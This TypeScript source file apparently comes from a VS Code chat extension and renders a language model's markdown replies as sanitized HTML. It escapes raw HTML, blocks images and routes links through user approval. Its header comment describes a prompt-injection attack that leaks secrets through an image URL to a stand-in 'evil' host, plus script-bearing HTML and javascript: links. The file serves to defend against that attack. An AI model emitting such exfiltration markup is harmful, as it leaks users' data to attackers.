// Renders model output (markdown) to HTML that is safe to put in the chat webview's DOM, also while
// it streams and when a stored conversation is restored. The model's text is untrusted: a prompt
// injection can make it write `![x](https://evil/?q=SECRET)` (exfiltration by image load,
// vscode#210315), raw HTML with event handlers, or `javascript:` / `command:` links.
//   - markdown-it with `html: false`: raw HTML is escaped and shows as text.
//   - Images are never loaded: they render as their alt text with a note.
//   - Links keep their target only when it is http(s), and then in `data-href`, not `href`: the
//     webview asks the extension to open it, which asks the user first. Other links are inert text.
//   - No `style` attributes (table alignment becomes a class).
//   - Code is highlighted by highlight.js (escaped spans); each block gets Copy / Insert / Apply.
//   - Last, the whole string passes the allow-list in htmlAllowList.ts, or the text is shown escaped.
// Code blocks are numbered as markdownParser.ts lists them, so the extension can act on "block 2
// of turn X" without trusting code sent back by the webview.
import type MarkdownIt from 'markdown-it';
import type { Token } from 'markdown-it';
import hljs from 'highlight.js/lib/common';
import { findDisallowedHtml } from './htmlAllowList';
import { codeBlockInfo, createMarkdownIt, type CodeBlockInfo } from './markdownParser';

export { codeBlocksOf, type CodeBlockInfo } from './markdownParser';

export interface RenderedMarkdown {
  html: string;
  codeBlocks: CodeBlockInfo[];
  /** False when the allow-list rejected the rendering and the text was shown escaped instead. */
  clean: boolean;
}

interface RenderEnv {
  blocks: CodeBlockInfo[];
  /** Whether each open link was rendered as a web link (true) or inert text (false). */
  links: boolean[];
}

/** Code longer than this is shown without highlighting (it would slow every streamed frame). */
const HIGHLIGHT_LIMIT = 20_000;

const md = withSafeRenderer(createMarkdownIt());
const escapeHtml = md.utils.escapeHtml;

export function renderMarkdown(source: string): RenderedMarkdown {
  const env: RenderEnv = { blocks: [], links: [] };
  const html = md.render(source, env);
  const problem = findDisallowedHtml(html);
  if (problem)
    return { html: `<pre class="md-fallback">${escapeHtml(source)}</pre>`, codeBlocks: env.blocks, clean: false };
  return { html, codeBlocks: env.blocks, clean: true };
}

export function isWebLink(url: string): boolean {
  return /^https?:\/\//i.test(url);
}

function withSafeRenderer(m: MarkdownIt): MarkdownIt {
  const rules = m.renderer.rules;
  rules.fence = (tokens, idx, _options, env: RenderEnv) => renderCodeBlock(tokens[idx]!, env);
  rules.code_block = (tokens, idx, _options, env: RenderEnv) => renderCodeBlock(tokens[idx]!, env);
  rules.image = (tokens, idx, options, env, self) => {
    const token = tokens[idx]!;
    const alt = self.renderInlineAsText(token.children ?? [], options, env).trim() || 'image';
    const src = token.attrGet('src') ?? '';
    const icon = '<span class="codicon codicon-file-media" aria-hidden="true"></span>';
    return (
      `<span class="inert-image" title="${escapeHtml(`Image not loaded: ${src}`)}">` +
      `${icon} ${escapeHtml(alt)} <em>(image not loaded)</em></span>`
    );
  };
  rules.link_open = (tokens, idx, _options, env: RenderEnv) => {
    const href = tokens[idx]!.attrGet('href') ?? '';
    const web = isWebLink(href);
    env.links.push(web);
    return web
      ? `<a class="md-link" data-href="${escapeHtml(href)}" title="${escapeHtml(href)}" tabindex="0" role="link">`
      : `<span class="inert-link" title="${escapeHtml(`Link not opened: ${href}`)}">`;
  };
  rules.link_close = (_tokens, _idx, _options, env: RenderEnv) => (env.links.pop() ? '</a>' : '</span>');
  return m;
}

function renderCodeBlock(token: Token, env: RenderEnv): string {
  const info = codeBlockInfo(token);
  const index = env.blocks.length;
  env.blocks.push(info);
  const button = (action: string, icon: string, label: string) =>
    `<button type="button" class="code-action" data-action="${action}" data-block="${index}" ` +
    `title="${label}" aria-label="${label}"><span class="codicon codicon-${icon}" ` +
    `aria-hidden="true"></span></button>`;
  const language = info.language ? ` language-${info.language.replace(/[^\w-]/g, '_')}` : '';
  return (
    `<div class="code-block" data-block="${index}"><div class="code-header">` +
    `<span class="code-lang">${escapeHtml(info.language)}</span><span class="code-actions">` +
    button('copy', 'copy', 'Copy') +
    button('insert', 'insert', 'Insert at Cursor') +
    button('apply', 'diff', 'Apply to File…') +
    `</span></div><pre><code class="hljs${language}">${highlight(info.code, info.language)}</code></pre></div>\n`
  );
}

function highlight(code: string, language: string): string {
  if (language && code.length <= HIGHLIGHT_LIMIT && hljs.getLanguage(language)) {
    try {
      return hljs.highlight(code, { language, ignoreIllegals: true }).value;
    } catch {
      // fall through to plain text
    }
  }
  return escapeHtml(code);
}
